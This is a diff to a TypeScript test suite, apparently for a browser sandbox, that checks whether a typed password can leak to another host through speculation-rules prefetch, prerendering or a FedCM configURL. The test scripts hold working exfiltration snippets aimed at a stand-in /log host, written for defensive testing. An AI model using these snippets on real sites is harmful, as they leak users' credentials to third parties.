@@ -381,9 +381,9 @@ describe("what the browser is about to send to another host", () => {
   const signIn = () =>
     `const config = "${other.url("/log")}?" + encodeURIComponent(document.querySelector("input").value); Promise.resolve(navigator.credentials.get({ identity: { providers: [{ configURL: config, clientId: "1" }] } })).catch(() => {}).then(() => document.body.append("done"))`;
   test.each<[string, () => string]>([
-    ["SpeculationRulesPrefetch", () => rules("prefetch")],
-    ["Prerender2", () => rules("prerender")],
-    ["FedCm", signIn],
+    ["prefetching by speculation rules", () => rules("prefetch")],
+    ["prerendering", () => rules("prerender")],
+    ["FedCM", signIn],
   ])("by %s is not sent", async (_, script) => {
     const told = await runOn(
       onClick(script().replaceAll("'", "")),
@@ -393,6 +393,17 @@ describe("what the browser is about to send to another host", () => {
     );
     expect(received()).toBe("");
     expectNothingOf(told, PASSWORD);
+  });
+
+  test.each<[string, () => string]>([
+    ["prefetching by speculation rules", () => rules("prefetch")],
+    ["prerendering", () => rules("prerender")],
+    ["FedCM", signIn],
+  ])("by %s is not sent to a host that a request without the secret has named", async (_, script) => {
+    const named = `fetch("${other.url("/log")}", { mode: "no-cors" }).then(() => { ${script()} })`;
+    const told = await runOn(onClick(named.replaceAll("'", "")), done, { type: "wait", value: 1_000 }, list);
+    expect(told.failure).toBeUndefined();
+    expect(received()).toBe("/log");
   });
 
   test("by the name of a host that only the browser's resolver would get, ends the run", async () => {
